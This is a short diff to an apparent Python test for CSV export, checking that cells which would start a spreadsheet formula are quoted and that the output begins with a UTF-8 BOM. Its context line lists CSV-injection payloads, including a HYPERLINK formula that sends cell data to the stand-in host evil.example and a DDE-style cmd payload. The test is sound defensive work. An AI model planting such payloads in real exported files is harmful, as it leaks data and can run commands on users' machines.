@@ -20,7 +20,8 @@ HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|'
 def test_a_cell_that_would_start_a_formula_is_quoted(cell):
     assert safe_cell(cell) == "'" + cell
     text = csv_text([{"name": cell, "n": 1}], ["name", "n"])
-    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert text.startswith("\ufeff")   # the BOM: Excel then reads UTF-8
+    (row,) = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
     assert row["name"] == "'" + cell and row["n"] == "1"
 
 
